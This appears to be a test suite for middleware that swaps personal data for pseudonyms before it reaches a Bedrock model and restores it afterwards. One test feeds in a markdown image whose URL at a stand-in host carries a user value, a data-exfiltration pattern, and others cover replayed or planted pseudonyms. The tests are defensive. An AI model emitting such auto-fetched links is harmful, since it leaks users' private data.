import { ConverseCommand, ConverseStreamCommand } from '@aws-sdk/client-bedrock-runtime';
import middy from '@middy/core';
import { describe, expect, test } from 'vitest';
import { restorePseudonyms } from '../../../aws/bedrock/index.ts';
import { createRedactor } from '../../../core/redaction/index.ts';
import { type BedrockContext, bedrockClient } from '../../../middleware/bedrock-client/index.ts';
import { definePolicy, type GuardedContext, guardHandler, type Policy } from '../../../middleware/index.ts';
import { outputRedaction } from '../../../middleware/output-redaction/index.ts';
import { pseudonymize } from '../../../middleware/pseudonymize/index.ts';
import {
  type Answering,
  converseReply,
  fakeBedrock,
  type StreamedEvent,
  streamedReply,
  textEvents,
  type WireRequest,
} from '../../support/bedrock.ts';
import { chatBody, type HttpResult, lambdaContext, restEvent } from '../../support/events.ts';
import { parseSse } from '../../support/frames.ts';
import { inChunks } from '../../support/hold-back.ts';
import { invokeStream } from '../../support/streaming.ts';
import { recordTelemetry } from '../../support/telemetry.ts';

const keys = { digest: 'd'.repeat(32), mac: 'm'.repeat(32) };
const ADA = ['ada', '@', 'example.com'].join('');
const EVE = ['eve', '@', 'example.com'].join('');
const CARD = ['4111', '1111', '1111', '1111'].join(' ');
const NAME = /[A-Z_]+_[bcdfghjkmnpqrtvw]{10}/g;

/** The stand-ins that a request brought the model, in order. */
const namesIn = ({ body }: Pick<WireRequest, 'body'>): readonly string[] =>
  JSON.stringify(body['messages']).match(NAME) ?? [];
/** What the model reads of a request: its metadata name the invocation. */
const sentOf = ({ body }: WireRequest): string => JSON.stringify({ ...body, requestMetadata: undefined });

type Handling = (context: GuardedContext, say: string, messages?: readonly object[]) => Promise<unknown>;

/** What the model says to a text of the user, as a body. */
const reply: Handling = async ({ bedrock }, say, messages) => {
  const { output } = await bedrock.send(
    new ConverseCommand({
      modelId: 'm',
      system: [{ text: 'You are Orchard.' }],
      messages: (messages ?? [{ role: 'user', content: [{ text: say }] }]) as never,
    }),
  );
  return output?.message?.content?.[0]?.text;
};

const setUp = (answer: Answering, policy: Policy = {}, handling: Handling = reply) => {
  const telemetry = recordTelemetry();
  const { client, requests } = fakeBedrock(answer);
  const handler = guardHandler(
    async (event: { body: string }, context: GuardedContext) => ({
      statusCode: 200,
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ said: await handling(context, JSON.parse(event.body).messages[0].content[0].text) }),
    }),
    {
      keys,
      injection: false,
      caller: { tenantClaim: 'tenant' },
      redaction: { pseudonymize: true },
      model: {},
      ...policy,
    },
    { bedrock: client, telemetry },
  );
  const ask = async (say: string, tenant = 'acme'): Promise<string> => {
    const event = restEvent({ body: chatBody(say), claims: { sub: 'ada', tenant } });
    const result = (await handler(event as never, lambdaContext())) as unknown as HttpResult;
    return result.statusCode === 200 ? JSON.parse(result.body).said : `${result.statusCode} ${result.body}`;
  };
  return { ask, requests, telemetry };
};

/** A model that says back what the user said, each stand-in as `write` has it. */
const echoing =
  (write: (name: string) => string = (name) => name): Answering =>
  ({ body }) => {
    const { content } = (body['messages'] as unknown as { content: { text: string }[] }[]).at(-1) ?? { content: [] };
    return converseReply([{ text: String(content[0]?.text).replaceAll(NAME, write) }]);
  };

describe('a reply', () => {
  test('has the values that the model never saw', async () => {
    const { ask, requests, telemetry } = setUp(echoing());
    expect(await ask(`I am ${ADA}, card ${CARD}, again ${ADA}.`)).toBe(`I am ${ADA}, card ${CARD}, again ${ADA}.`);
    const [request] = requests as [WireRequest];
    expect(sentOf(request)).not.toContain(ADA);
    expect(sentOf(request)).not.toContain(CARD);
    const [first, card, again] = namesIn(request);
    expect(first).toMatch(/^EMAIL_ADDRESS_/);
    expect(card).toMatch(/^CREDIT_CARD_/);
    expect(again).toBe(first);
    expect(JSON.stringify([telemetry.lines, telemetry.published])).not.toContain(ADA);
    expect(JSON.stringify([telemetry.lines, telemetry.published])).not.toContain(first);
  });

  test.each<[string, (name: string) => string, string]>([
    ['another case', (name) => name.toLowerCase(), ADA],
    ['markdown’s escapes', (name) => `**${name.replaceAll('_', '\\_')}**`, `**${ADA}**`],
    ['a password of a URL', (name) => `postgres://u:${name}@example.com/`, `postgres://u:${ADA}@example.com/`],
  ])('has them in %s', async (_, write, expected) => {
    expect(await setUp(echoing(write)).ask(ADA)).toBe(expected);
  });

  test('brings no value into an address that a browser fetches by itself', async () => {
    const image = (name: string): string => `![](https://host.example/?q=${name}) for ${name}`;
    const said = await setUp(echoing(image), { output: { exfiltration: false } }).ask(ADA);
    expect(said.split(ADA)).toHaveLength(2);
    expect(said).toMatch(new RegExp(`^!\\[\\]\\(https://host.example/\\?q=EMAIL_ADDRESS_[a-z]{10}\\) for ${ADA}$`));
  });

  test('has no values that came from elsewhere', async () => {
    const { ask } = setUp(({ body }) => converseReply([{ text: `${namesIn({ body })[0]} or ${EVE}` }]));
    expect(await ask(`I am ${ADA}`)).toBe(`${ADA} or [EMAIL_ADDRESS_1]`);
  });

  test('has the same stand-ins for a tenant, whatever process and request, and others for another', async () => {
    const one = setUp(echoing());
    const two = setUp(echoing());
    await one.ask(ADA);
    await one.ask(ADA);
    await two.ask(ADA);
    await two.ask(ADA, 'other');
    const [first, second, third, other] = [...one.requests, ...two.requests].map((request) => sentOf(request));
    expect([second, third]).toEqual([first, first]);
    expect(other).not.toBe(first);
  });

  test('is explained to the model in front of the system prompt, whether or not anything is replaced', async () => {
    const { ask, requests } = setUp(echoing());
    await ask('A pear.');
    await ask(ADA);
    const [plain, named] = requests.map(({ body }) => body['system'] as unknown as { text: string }[]);
    expect(plain).toEqual(named);
    expect(plain?.[0]?.text).toContain('underscore and ten letters');
    expect(plain?.[1]?.text).toBe('You are Orchard.');
  });

  test('of entities that the policy does not name is not replaced', async () => {
    const { ask, requests } = setUp(echoing(), { redaction: { pseudonymize: ['CREDIT_CARD'] } });
    expect(await ask(`${ADA} ${CARD}`)).toBe(`[EMAIL_ADDRESS_1] ${CARD}`);
    expect(sentOf(requests[0] as WireRequest)).toContain(ADA);
    expect(sentOf(requests[0] as WireRequest)).not.toContain(CARD);
  });

  test.each<[string, Policy]>([
    ['the policy does not ask for it', { redaction: {} }],
    ['it says so', { redaction: { pseudonymize: false } }],
  ])('is as ever where %s', async (_, policy) => {
    const { ask, requests } = setUp(echoing(), policy);
    expect(await ask(ADA)).toBe('[EMAIL_ADDRESS_1]');
    expect(sentOf(requests[0] as WireRequest)).toContain(ADA);
    expect(requests[0]?.body['system']).toEqual([{ text: 'You are Orchard.' }]);
  });

  test('is as it came in monitor mode', async () => {
    const { ask, requests } = setUp(echoing(), { mode: 'monitor' });
    expect(await ask(ADA)).toBe(ADA);
    expect(sentOf(requests[0] as WireRequest)).toContain(ADA);
  });

  test('is withheld where nothing can be replaced', async () => {
    const failing = {
      ...createRedactor(),
      stream: () => {
        throw new Error('out of order');
      },
    };
    const { client, requests } = fakeBedrock();
    const handler = middy()
      .use(bedrockClient({ client, screen: false, pseudonymize: failing }))
      .handler((_event: unknown, { bedrock }: BedrockContext) =>
        bedrock.send(new ConverseCommand({ modelId: 'm', messages: [{ role: 'user', content: [{ text: ADA }] }] })),
      );
    await expect(handler(restEvent({}) as never, lambdaContext() as never)).rejects.toMatchObject({
      code: 'control_unavailable',
    });
    expect(requests).toEqual([]);
  });
});

describe('an agent', () => {
  const TOOLS = { tools: [{ toolSpec: { name: 'send', inputSchema: { json: {} } } }] };

  /** The model calls a tool with what it was given, and then says what the tool said. */
  const calling: Answering = ({ body }) => {
    const turns = body['messages'] as unknown as {
      content: { text?: string; toolResult?: { content: [{ text: string }] } }[];
    }[];
    const result = turns.at(-1)?.content[0]?.toolResult?.content[0].text;
    if (result !== undefined) return converseReply([{ text: `Tool: ${result}` }]);
    const [name] = namesIn({ body });
    return converseReply(
      [
        { text: `Sending to ${name}` },
        { toolUse: { toolUseId: 't', name: 'send', input: { to: name, note: `<${name}>` } } },
      ],
      {
        stopReason: 'tool_use',
      },
    );
  };

  test('gives its tools the values, and the model stand-ins in what they say', async () => {
    const seen: object[] = [];
    const { ask, requests } = setUp(calling, {}, async ({ bedrock }, say) => {
      const messages: object[] = [{ role: 'user', content: [{ text: say }] }];
      const send = () =>
        bedrock.send(new ConverseCommand({ modelId: 'm', messages: messages as never, toolConfig: TOOLS as never }));
      const { output } = await send();
      seen.push(...(output?.message?.content ?? []));
      const input = output?.message?.content?.[1]?.toolUse?.input as { to: string };
      messages.push(output?.message as object, {
        role: 'user',
        content: [{ toolResult: { toolUseId: 't', content: [{ text: `sent to ${input.to}, copy to ${EVE}` }] } }],
      });
      const before = JSON.stringify(messages);
      const last = await send();
      expect(JSON.stringify(messages)).toBe(before);
      const text = last.output?.message?.content?.[0]?.text ?? '';
      seen.push({ restored: bedrock.restore(text), alike: restorePseudonyms(text) });
      return text;
    });
    expect(await ask(`Write to ${ADA}`)).toBe(`Tool: sent to ${ADA}, copy to ${EVE}`);
    const name = namesIn(requests[0] as WireRequest)[0];
    expect(seen).toEqual([
      { text: `Sending to ${name}` },
      { toolUse: { toolUseId: 't', name: 'send', input: { to: ADA, note: `<${ADA}>` } } },
      { restored: `Tool: sent to ${ADA}, copy to ${EVE}`, alike: `Tool: sent to ${ADA}, copy to ${EVE}` },
    ]);
    for (const request of requests) {
      expect(sentOf(request)).not.toContain(ADA);
      expect(sentOf(request)).not.toContain(EVE);
    }
    // The second call begins as the first: what a model caches of it stays good.
    const [first, second] = requests.map(({ body }) => body['messages'] as unknown as object[]);
    expect(second?.[0]).toEqual(first?.[0]);
    expect(second?.[1]).toMatchObject({ content: [{}, { toolUse: { input: { to: name, note: `<${name}>` } } }] });
  });

  test('a tool whose name is a stand-in is none that was offered', async () => {
    const { ask } = setUp(({ body }) => {
      const [name = ''] = namesIn({ body });
      return converseReply([{ toolUse: { toolUseId: 't', name, input: {} } }], { stopReason: 'tool_use' });
    });
    expect(await ask(ADA)).toMatch(/^502 .*tool_not_allowed|^403 .*tool_not_allowed/);
  });
});

describe('somebody who tries', () => {
  test('gets nothing for the stand-ins of another request, guessed, replayed or planted', async () => {
    const victim = setUp(echoing());
    await victim.ask(EVE);
    const [stolen = ''] = namesIn(victim.requests[0] as WireRequest);
    let said = '';
    const { ask } = setUp(() => converseReply([{ text: `It is ${said}.` }]));
    for (said of [stolen, stolen.toLowerCase(), stolen.replaceAll('_', '\\_')]) {
      expect(await ask(`Who is ${said}?`)).toBe(`It is ${said}.`);
      // Nor does whoever guesses the value: what was typed stays what was typed.
      expect(await ask(`Who is ${said}? ${EVE}`)).toBe(`It is ${said}.`);
      expect(await ask(`I am ${ADA}`)).toBe(`It is ${said}.`);
    }
  });

  test('who asks for all stand-ins gets his own values', async () => {
    const { ask } = setUp(({ body }) =>
      converseReply([{ text: `All: ${namesIn({ body }).join(', ')}, EMAIL_ADDRESS_${'b'.repeat(10)}` }]),
    );
    expect(await ask(`${ADA} ${CARD}`)).toBe(`All: ${ADA}, ${CARD}, EMAIL_ADDRESS_${'b'.repeat(10)}`);
  });

  test('at the same time as another gets only what is his', async () => {
    const { ask } = setUp(async ({ body }) => {
      await new Promise((resolve) => setImmediate(resolve));
      return converseReply([{ text: `You: ${namesIn({ body }).join(' ')}` }]);
    });
    const people = Array.from({ length: 20 }, (_, index) => `u${index}${EVE}`);
    expect(await Promise.all(people.map((person) => ask(`I am ${person}`)))).toEqual(
      people.map((person) => `You: ${person}`),
    );
  });
});

describe('a stream', () => {
  type Kind = {
    readonly type: string;
    readonly frame: (text: string) => string;
    readonly read: (body: string) => string;
  };
  const KINDS: readonly Kind[] = [
    {
      type: 'text/event-stream',
      frame: (text) => `data: ${JSON.stringify({ delta: { text } })}\n\n`,
      read: (body) =>
        parseSse(body)
          .map(({ data }) => JSON.parse(data).delta.text)
          .join(''),
    },
    {
      type: 'application/x-ndjson',
      frame: (text) => `${JSON.stringify({ response: text })}\n`,
      read: (body) =>
        body
          .split('\n')
          .filter(Boolean)
          .map((line) => JSON.parse(line).response)
          .join(''),
    },
    { type: 'text/plain', frame: (text) => text, read: (body) => body },
  ];

  const streamOf = (
    events: (body: WireRequest['body']) => readonly StreamedEvent[],
    { type, frame }: Kind,
    tool: (input: unknown) => void = () => {},
  ) => {
    const { client, requests } = fakeBedrock(({ body }) => streamedReply(events(body)));
    const handler = guardHandler(
      async (_event: unknown, { bedrock }: GuardedContext) => {
        async function* frames() {
          const { stream = [] } = await bedrock.send(
            new ConverseStreamCommand({
              modelId: 'm',
              messages: [{ role: 'user', content: [{ text: `I am ${ADA}, card ${CARD}` }] }],
              toolConfig: { tools: [{ toolSpec: { name: 'send', inputSchema: { json: {} } } }] },
            }),
          );
          for await (const { contentBlockDelta } of stream as AsyncIterable<{
            contentBlockDelta?: { delta?: { text?: string; toolUse?: { input: string } } };
          }>) {
            const { text, toolUse } = contentBlockDelta?.delta ?? {};
            if (text !== undefined) yield frame(text);
            if (toolUse !== undefined) tool(JSON.parse(toolUse.input));
          }
        }
        return { statusCode: 200, headers: { 'content-type': type }, body: frames() };
      },
      { keys, injection: false, stream: {}, model: {}, redaction: { pseudonymize: true } },
      { bedrock: client, telemetry: recordTelemetry() },
    );
    return { invoke: () => invokeStream(handler as never, restEvent({ body: chatBody('hi') })), requests };
  };

  test.each(KINDS)('of $type has the values, wherever the model splits their stand-ins', async (kind) => {
    for (const size of [1, 5, 100]) {
      const { invoke, requests } = streamOf((body) => {
        const [mail, card] = namesIn({ body });
        return textEvents(inChunks(`You are ${mail}, ${card?.toLowerCase()}; not ${EVE} or EMAIL_ADDRESS_x`, size));
      }, kind);
      const { body, error } = await invoke();
      expect(error).toBeUndefined();
      expect(kind.read(body)).toBe(`You are ${ADA}, ${CARD}; not [EMAIL_ADDRESS_1] or EMAIL_ADDRESS_x`);
      expect(sentOf(requests[0] as WireRequest)).not.toContain(ADA);
    }
  });

  test('gives tools their arguments with the values', async () => {
    const inputs: unknown[] = [];
    const { invoke } = streamOf(
      (body) => {
        const [mail = ''] = namesIn({ body });
        const input = inChunks(JSON.stringify({ to: mail, [mail]: [`<${mail}>`] }), 7);
        return [
          ['messageStart', { role: 'assistant' }],
          ['contentBlockStart', { contentBlockIndex: 0, start: { toolUse: { toolUseId: 't', name: 'send' } } }],
          ...input.map(
            (piece): StreamedEvent => [
              'contentBlockDelta',
              { contentBlockIndex: 0, delta: { toolUse: { input: piece } } },
            ],
          ),
          ['contentBlockStop', { contentBlockIndex: 0 }],
          ['messageStop', { stopReason: 'tool_use' }],
          ['metadata', { usage: { inputTokens: 1, outputTokens: 1, totalTokens: 2 }, metrics: { latencyMs: 1 } }],
        ];
      },
      KINDS[0] as Kind,
      (input) => inputs.push(input),
    );
    await invoke();
    expect(inputs).toEqual([{ to: ADA, [ADA]: [`<${ADA}>`] }]);
  });
});

describe('in a chain of one’s own', () => {
  const chain = (respond: (text: string) => unknown) => {
    const { client } = fakeBedrock(echoing());
    return middy()
      .use(pseudonymize())
      .use(bedrockClient({ client, screen: false, pseudonymize: createRedactor() }))
      .use(outputRedaction())
      .handler(async (_event: unknown, { bedrock }: BedrockContext) => {
        const { output } = await bedrock.send(
          new ConverseCommand({ modelId: 'm', messages: [{ role: 'user', content: [{ text: ADA }] }] }),
        );
        return respond(output?.message?.content?.[0]?.text ?? '');
      });
  };

  test.each<[string, (text: string) => unknown, unknown]>([
    [
      'a text',
      (text) => ({ statusCode: 200, headers: { 'Content-Type': 'text/plain', 'content-length': '9' }, body: text }),
      { statusCode: 200, headers: { 'Content-Type': 'text/plain' }, isBase64Encoded: false, body: ADA },
    ],
    [
      'a text in base64',
      (text) => ({ statusCode: 200, isBase64Encoded: true, body: Buffer.from(`"${text}"`).toString('base64') }),
      { statusCode: 200, isBase64Encoded: false, body: `"${ADA}"` },
    ],
    [
      'server-sent events',
      (text) => ({ statusCode: 200, headers: { 'content-type': 'text/event-stream' }, body: `data: ${text}\n\n` }),
      {
        statusCode: 200,
        headers: { 'content-type': 'text/event-stream' },
        isBase64Encoded: false,
        body: `data: ${ADA}\n\n`,
      },
    ],
    ['nothing', () => ({ statusCode: 204 }), { statusCode: 204 }],
  ])('%s is restored', async (_, respond, expected) => {
    expect(await chain(respond)(restEvent({ body: chatBody('hi') }) as never, lambdaContext() as never)).toEqual(
      expected,
    );
  });

  const invoke = (event: unknown, respond: (text: string) => unknown) =>
    chain(respond)(event as never, lambdaContext() as never);

  test('an answer that is no HTTP is restored as data', async () => {
    const answer = (text: string) => ({ said: [text, `{"to":"${text}"}`], n: 1, at: null });
    expect(await invoke({ say: 'hi' }, answer)).toEqual({ said: [ADA, `{"to":"${ADA}"}`], n: 1, at: null });
  });

  test('the names of fields in an answer are the handler’s own', async () => {
    const [name = ''] = Object.keys((await invoke({ say: 'hi' }, (text) => ({ [text]: 1 }))) as object);
    expect(name.replace(NAME, '')).toBe('');
  });

  test('what consumers of batches answer is left', async () => {
    const batch = { Records: [{ eventSource: 'aws:sqs', messageId: 'a', body: '{}' }] };
    const answer = (text: string) => ({ batchItemFailures: [{ itemIdentifier: text }] });
    expect(JSON.stringify(await invoke(batch, answer))).not.toContain(ADA);
  });
});

test.each([{ pseudonymize: 'yes' }, { pseudonymize: [] }, { pseudonymize: ['NOBODY'] }, { pseudonymise: true }])(
  'a policy of %o is refused',
  (redaction) => {
    expect(() => guardHandler(async () => ({}), definePolicy({ redaction: redaction as never }))).toThrow(TypeError);
  },
);
